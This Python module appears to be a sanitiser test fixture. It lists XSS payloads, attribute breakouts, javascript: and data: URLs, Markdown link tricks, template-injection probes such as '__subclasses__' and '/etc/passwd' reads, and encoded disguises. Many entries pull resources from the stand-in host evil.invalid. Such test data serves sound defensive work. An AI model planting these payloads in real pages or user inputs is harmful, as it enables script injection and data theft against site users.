"""Texts that try to run, to reach out, or to read what isn't theirs.

Each sets `window.hit`, asks a foreign host for something, or leads to where no page may lead.  The
kinds are those of the usual collections, written from memory.
"""

from __future__ import annotations

FOREIGN = "evil.invalid"

HTML = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<ScRiPt>window.hit=1</sCrIpT>",
    "<script src=//evil.invalid/x.js></script>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<script\x20type=module>window.hit=1</script >",
    "<img src=x onerror=window.hit=1>",
    "<img/src=x/onerror=window.hit=1>",
    "<img src=//evil.invalid/x.png>",
    "<img srcset='//evil.invalid/x.png 2x'>",
    "<body onload=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<audio src=//evil.invalid/x.mp3 autoplay></audio>",
    "<iframe src=javascript:window.hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=javascript:window.hit=1></object>",
    "<embed src=//evil.invalid/x.swf>",
    "<form action=//evil.invalid><button>go</button></form>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css';</style>",
    '<p style="background:url(//evil.invalid/x.png)">x</p>',
    "<a href=javascript:window.hit=1>x</a>",
    "<!--><script>window.hit=1</script-->",
    "<![CDATA[<script>window.hit=1</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    "<template><script>window.hit=1</script></template>",
    "<textarea></textarea><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "</style><script>window.hit=1</script>",
    "<table background=//evil.invalid/x.png>",
)
FOREIGN_MARKUP = (
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><a xlink:href=javascript:window.hit=1><text y=20>x</text></a></svg>",
    "<svg><use href=//evil.invalid/x.svg#a></use></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s></svg>",
    "<svg><foreignObject><script>window.hit=1</script></foreignObject></svg>",
    "</text></svg><script>window.hit=1</script>",
    "<math><mtext></p><img src=x onerror=window.hit=1></mtext></math>",
    "<math href=javascript:window.hit=1>x</math>",
)
ATTRIBUTES = (
    '" onmouseover="window.hit=1',
    "' onmouseover='window.hit=1",
    '" autofocus onfocus=window.hit=1 x="',
    '"><script>window.hit=1</script>',
    "'><img src=x onerror=window.hit=1>",
    "` onmouseover=window.hit=1 `",
    'x" style="background:url(//evil.invalid/x)',
)
ADDRESSES = (
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1",
    "java\tscript:window.hit=1",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "file:///etc/passwd",
    'https://evil.invalid/"onmouseover="window.hit=1',
    "//evil.invalid/x",
    "&#106;avascript&#58;window.hit=1",
)
MARKDOWN = (
    "[x](javascript:window.hit=1)",
    "[x](JAVASCRIPT&colon;window.hit=1)",
    "[x](<javascript:window.hit=1>)",
    "[x](data:text/html,<script>window.hit=1</script>)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.invalid/x)",
    "[x](../../../etc/passwd)",
    '[x](https://evil.invalid/ "t\\" onmouseover=window.hit=1")',
    "![x](https://evil.invalid/x.png)",
    "![x](//evil.invalid/x.png)",
    "![x](data:image/svg+xml,<svg/onload=window.hit=1>)",
    "![x](file:///etc/passwd)",
    '![" onerror="window.hit=1](x.png)',
    "<javascript:window.hit=1>",
    "<https://evil.invalid/?a=b>",
    "[x]\n\n[x]: javascript:window.hit=1",
    "![x]\n\n[x]: //evil.invalid/x.png",
    "[x][y]\n\n[y]: <javascript:window.hit=1> 'onclick=window.hit=1'",
    '```html" onload=window.hit=1\n<script>window.hit=1</script>\n```',
    "| a |\n|---|\n| <script>window.hit=1</script> |",
    "# <img src=x onerror=window.hit=1>",
    "[![x](//evil.invalid/x.png)](javascript:window.hit=1)",
)
TEMPLATES = (
    "{{ 1337*1337 }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${1337*1337}",
    "#{1337*1337}",
    "{0.__class__}{name}%(name)s%s",
)
DISGUISES = (
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&amp;lt;script&amp;gt;window.hit=1",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "＜script＞window.hit=1＜/script＞",
    "<scr\u200bipt>window.hit=1</scr\u200bipt>",
    "<\u200bimg src=x onerror=window.hit=1>",
    "\u202e>tpircs/<1=tih.wodniw>tpircs<",
    "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "url(javascript:window.hit=1)",
    "expression(window.hit=1)",
    '\\"; } body { background: url(//evil.invalid/x) } .x { content: "',
)

PAYLOADS: tuple[str, ...] = (
    *HTML, *FOREIGN_MARKUP, *ATTRIBUTES, *ADDRESSES, *MARKDOWN, *TEMPLATES, *DISGUISES,
)  # fmt: skip
